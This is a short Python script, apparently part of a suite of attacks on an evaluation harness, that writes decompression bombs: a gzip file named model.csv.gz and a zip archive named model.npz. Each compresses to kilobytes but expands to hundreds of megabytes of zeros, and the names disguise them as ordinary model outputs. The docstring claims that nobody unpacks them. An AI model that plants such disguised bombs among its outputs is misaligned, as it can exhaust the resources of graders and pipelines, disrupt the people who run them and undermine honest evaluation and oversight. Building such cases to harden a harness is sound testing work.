"""Artefacts of a few kilobytes that become gigabytes when they are unpacked: nobody unpacks them."""

import gzip
import zipfile
from attack import *

with gzip.open(OUT / "model.csv.gz", "wb") as file:
    for _ in range(200):
        file.write(b"0" * 1_000_000)
with zipfile.ZipFile(OUT / "model.npz", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("a.npy", b"0" * 100_000_000)
done()
